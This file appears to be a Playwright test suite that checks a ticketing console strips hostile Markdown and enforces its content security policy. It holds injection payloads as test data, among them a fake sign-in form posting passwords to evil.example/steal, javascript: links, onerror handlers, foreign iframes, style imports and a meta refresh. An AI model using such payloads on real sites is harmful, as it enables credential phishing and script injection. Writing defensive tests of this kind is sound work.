import type { Browser, Page, Request } from 'playwright-core';
import { launchBrowser, screenshot } from '../support/browser.js';
import { signIn, startConsolePlatform, type ConsolePlatform } from '../support/console.js';
import { ADMIN_EMAIL, ADMIN_PASSWORD } from '../support/accounts.js';

// Hostile Markdown in the console (issue 33, item 7): ticket text that tries to restyle the page, show a form of its own,
// frame or embed another site, run script, or make its readers' browsers call another host. It is rendered in Debian's
// Chromium against the platform as `npm start` runs it; the page must look and behave as with harmless text.

let platform: ConsolePlatform;
let browser: Browser;
let token: string;

beforeAll(async () => {
  browser = await launchBrowser();
  platform = await startConsolePlatform();
  token = (
    await api<{ login: { token: string } }>(`mutation($e: String!, $p: String!) { login(input: { email: $e, password: $p }) { token } }`, {
      e: ADMIN_EMAIL,
      p: ADMIN_PASSWORD,
    })
  ).login.token;
}, 180_000);
afterAll(async () => {
  await browser?.close();
  await platform?.stop();
});

async function api<T>(query: string, variables: Record<string, unknown> = {}): Promise<T> {
  const response = await fetch(`${platform.url}/graphql`, {
    method: 'POST',
    headers: { 'content-type': 'application/json', ...(token ? { authorization: `Bearer ${token}` } : {}) },
    body: JSON.stringify({ query, variables }),
  });
  const body = (await response.json()) as { data?: T; errors?: unknown[] };
  if (body.errors) throw new Error(JSON.stringify(body.errors));
  return body.data!;
}

async function ticketWith(title: string, description: string, comment: string): Promise<string> {
  const { createTicket } = await api<{ createTicket: { id: string; key: string } }>(
    `mutation($t: String!, $d: String!) { createTicket(input: { projectKey: "INJ", title: $t, description: $d }) { id key } }`,
    { t: title, d: description },
  );
  await api(`mutation($t: ID!, $b: String!) { createComment(input: { ticketId: $t, body: $b }) { id } }`, {
    t: createTicket.id,
    b: comment,
  });
  return createTicket.key;
}

const EVIL = 'evil.example';

/** Everything a stored description or comment tried against the console, found in the wild or close to it. */
const STYLES =
  `<style>@import url(https://${EVIL}/x.css);</style>\n` +
  `<style>@font-face { font-family: "Evil"; src: url(https://fonts.${EVIL}/evil.woff2) format("woff2"); }\n` +
  `body, body * { font-family: "Evil", monospace !important; background: rgb(255, 0, 0) !important; }\n` +
  `nav[aria-label="Main"], header.top { display: none !important; }</style>`;
const FAKE_SIGN_IN =
  `<form action="https://${EVIL}/steal" method="post"><p>Your session expired, sign in again</p>` +
  `<input name="email" placeholder="Email"><input type="password" name="password" placeholder="Password">` +
  `<button>Sign in</button></form>`;
const ACTIVE =
  `<iframe src="https://${EVIL}/frame"></iframe><object data="https://${EVIL}/o.swf"></object><embed src="https://${EVIL}/e.swf">\n` +
  `<img src="x" onerror="window.__injected = 'img'"><img src="https://${EVIL}/pixel.png" alt="pixel">\n` +
  `<svg><style>nav { display: none }</style><a href="javascript:window.__injected='svg'"><text>svg</text></a></svg>\n` +
  `<a href="javascript:window.__injected='a'" id="js-link">js link</a> <a href="data:text/html,<script>alert(1)</script>">data link</a>\n` +
  `<p style="position: fixed; inset: 0; background: rgb(255, 0, 0)" class="error-note" onclick="window.__injected = 'p'">styled</p>\n` +
  `<link rel="stylesheet" href="https://${EVIL}/link.css"><meta http-equiv="refresh" content="0; url=https://${EVIL}/">`;

const DESCRIPTION =
  `Intro **bold** before the payload.\n\n${STYLES}\n\n${FAKE_SIGN_IN}\n\n${ACTIVE}\n\n` +
  `[markdown js](javascript:alert(1)) and [the docs](https://example.com/docs) and ![inline](data:image/png;base64,iVBORw0KGgo=)\n\n` +
  `- [x] done\n- [ ] to do\n\nDESCRIPTION-END`;
// A leading <style> is the case DOMPurify's defaults already dropped (the parser puts it in <head>); the rest is not.
const COMMENT = `${STYLES}\n\n${FAKE_SIGN_IN}\n\n${ACTIVE}\n\nCOMMENT-END`;

/** What the console looks like where an injected rule would show: the navigation and the page's text. */
const looks = (page: Page) =>
  page.evaluate(() => {
    const pick = (element: Element | null) => {
      if (!element) return null;
      const style = getComputedStyle(element);
      return {
        display: style.display,
        visibility: style.visibility,
        fontFamily: style.fontFamily,
        backgroundColor: style.backgroundColor,
        color: style.color,
        position: style.position,
      };
    };
    // Nothing laid over the navigation: what is under the middle of its first link is that link.
    const link = document.querySelector('nav[aria-label="Main"] a');
    const box = link?.getBoundingClientRect();
    const top = box ? document.elementFromPoint(box.x + box.width / 2, box.y + box.height / 2) : null;
    return {
      navOnTop: Boolean(link && top && link.contains(top)),
      nav: pick(document.querySelector('nav[aria-label="Main"]')),
      header: pick(document.querySelector('header.top')),
      body: pick(document.body),
      heading: pick(document.querySelector('main h1')),
      paragraph: pick(document.querySelector('.markdown p')),
    };
  });

/** A signed-in page recording every request it makes and every dialog it opens. */
async function recordingPage(): Promise<{ page: Page; requests: Request[]; dialogs: string[] }> {
  const page = await (await browser.newContext({ viewport: { width: 1280, height: 900 } })).newPage();
  const requests: Request[] = [];
  const dialogs: string[] = [];
  page.on('request', (request) => requests.push(request));
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  await signIn(page, platform.url);
  return { page, requests, dialogs };
}

const isForeign = (request: Request) => !request.url().startsWith(`${platform.url}/`) && !request.url().startsWith('data:');

/** The requests for another host that left the browser: Chromium reports those its policy refused too, failed with `csp` before sending. */
async function leftForAnotherHost(requests: Request[]): Promise<string[]> {
  const left: string[] = [];
  for (const request of requests.filter(isForeign)) {
    await request.response(); // Settles once the request has finished or failed.
    if (request.failure()?.errorText !== 'csp') left.push(`${request.url()} (${request.failure()?.errorText ?? 'sent'})`);
  }
  return left;
}

describe('a ticket whose description and comment carry markup', () => {
  let harmless: string;
  let hostile: string;

  beforeAll(async () => {
    await api(`mutation { createProject(input: { key: "INJ", name: "Injection" }) { id } }`);
    harmless = await ticketWith('Harmless', 'Intro **bold** before the payload.\n\nDESCRIPTION-END', 'COMMENT-END');
    hostile = await ticketWith('Hostile', DESCRIPTION, COMMENT);
  });

  it('renders it as harmless text: no rule applies, no form, frame or script, no request to another host', async () => {
    const { page, requests, dialogs } = await recordingPage();

    await page.goto(`${platform.url}/tickets/${harmless}`);
    await page.getByText('COMMENT-END').waitFor();
    await page.waitForLoadState('networkidle');
    const before = await looks(page);
    expect(before.nav?.display).not.toBe('none');
    expect(before.navOnTop).toBe(true);

    await page.goto(`${platform.url}/tickets/${hostile}`);
    await page.getByRole('heading', { name: 'Hostile' }).waitFor();
    await page.getByText('DESCRIPTION-END').waitFor();
    await page.getByText('COMMENT-END').waitFor();
    // Every font and style sheet the page asked for has loaded or failed, and the network has gone quiet.
    await page.evaluate(() => document.fonts.ready);
    await page.waitForLoadState('networkidle');
    await screenshot(page, 'console-injection-ticket');

    // No injected rule applies: the navigation and the text look as on the harmless ticket.
    expect(await looks(page)).toEqual(before);
    expect(await page.getByRole('navigation', { name: 'Main' }).isVisible()).toBe(true);

    // Nothing but text and plain formatting in the rendered Markdown.
    const markdown = page.locator('.markdown');
    expect(await markdown.count()).toBe(2);
    const forbidden = 'style, link, meta, form, input, button, textarea, select, iframe, frame, object, embed, svg, script, base';
    expect(await markdown.locator(forbidden).count()).toBe(0);
    expect(await page.locator('main form input[type="password"], iframe, object, embed').count()).toBe(0);
    const attributes = await markdown.evaluateAll((roots) =>
      roots.flatMap((root) =>
        [...root.querySelectorAll('*')].flatMap((element) => element.getAttributeNames().map((name) => `${element.localName}[${name}]`)),
      ),
    );
    for (const attribute of attributes)
      expect(attribute).toMatch(/^(a\[(href|rel|title)\]|img\[(src|alt|title)\]|(th|td)\[align\]|ol\[start\])$/);
    const hrefs = await markdown
      .locator('a[href]')
      .evaluateAll((links) => links.map((link) => [link.getAttribute('href'), link.getAttribute('rel')]));
    expect(hrefs).toEqual([['https://example.com/docs', 'noopener noreferrer']]);
    const sources = await markdown.locator('img').evaluateAll((images) => images.map((image) => image.getAttribute('src')));
    for (const source of sources) expect(source).toMatch(/^(x|data:image\/png;base64,[A-Za-z0-9+/=]+)$/);
    // The fake sign-in form's text is left as text; a task list's boxes are characters.
    await markdown.first().getByText('Your session expired, sign in again').waitFor();
    expect(await markdown.first().textContent()).toContain('☑ done');

    // No script ran, nothing left for another host.
    await page.locator('.markdown', { hasText: 'js link' }).first().getByText('js link').click();
    expect(await page.evaluate(() => (window as { __injected?: string }).__injected ?? null)).toBeNull();
    expect(dialogs).toEqual([]);
    // The sanitiser left nothing that even asks for another host.
    expect(requests.filter(isForeign).map((request) => request.url())).toEqual([]);
  });
});

describe('the content policy, against markup that got past the sanitiser', () => {
  it('applies no inline or foreign style sheet and loads no foreign font', async () => {
    const { page, requests } = await recordingPage();
    const response = await page.goto(`${platform.url}/projects`);
    const policy = response!.headers()['content-security-policy']!.split(';');
    expect(policy).toEqual(expect.arrayContaining(["style-src 'self'", "font-src 'self'", "style-src-attr 'unsafe-inline'"]));
    await page.getByRole('heading', { name: 'Projects' }).waitFor();
    await page.waitForLoadState('networkidle');
    const before = await looks(page);
    const violations = await page.evaluate(async (evil) => {
      const seen: string[] = [];
      // The three refusals below are reported as they happen, the font's possibly after its load has failed.
      const reported = new Promise<void>((resolve) =>
        document.addEventListener('securitypolicyviolation', (event) => {
          seen.push(event.violatedDirective);
          if (seen.length === 3) resolve();
        }),
      );
      const style = document.createElement('style');
      style.textContent = `nav[aria-label="Main"] { display: none !important; } body { background: rgb(255, 0, 0) !important; }`;
      document.head.append(style);
      const link = document.createElement('link');
      link.rel = 'stylesheet';
      link.href = `https://${evil}/link.css`;
      const failed = new Promise((resolve) => link.addEventListener('error', resolve));
      document.head.append(link);
      const font = new FontFace('Evil', `url(https://fonts.${evil}/evil.woff2)`);
      await font.load().catch(() => undefined);
      await failed;
      await reported;
      return seen.sort();
    }, EVIL);
    expect(violations).toEqual(['font-src', 'style-src-elem', 'style-src-elem']);
    expect(await looks(page)).toEqual(before);
    expect(requests.filter(isForeign).map((request) => request.url())).toEqual([
      `https://${EVIL}/link.css`,
      `https://fonts.${EVIL}/evil.woff2`,
    ]);
    expect(await leftForAnotherHost(requests)).toEqual([]);
  });
});

describe('the mail template preview, under the same policy', () => {
  it("still shows a template's inline styles, in its sandboxed frame", async () => {
    const { createMailAccount } = await api<{ createMailAccount: { id: string } }>(`mutation { createMailAccount(name: "Styled") { id } }`);
    const { createTemplate } = await api<{ createTemplate: { id: string } }>(
      `mutation($i: CreateTemplateInput!) { createTemplate(input: $i) { id } }`,
      { i: { accountId: createMailAccount.id, name: 'styled', subject: 'Hi', html: '<p style="color: rgb(1, 2, 3)">Styled {{name}}</p>' } },
    );
    const { page, requests } = await recordingPage();
    await page.goto(`${platform.url}/mail/${createMailAccount.id}/templates/${createTemplate.id}`);
    const paragraph = page.frameLocator('iframe[title="HTML preview"]').getByText('Styled');
    await paragraph.waitFor();
    expect(await paragraph.evaluate((element) => getComputedStyle(element).color)).toBe('rgb(1, 2, 3)');
    await screenshot(page, 'console-injection-mail-preview');
    expect(requests.filter(isForeign).map((request) => request.url())).toEqual([]);
  });
});
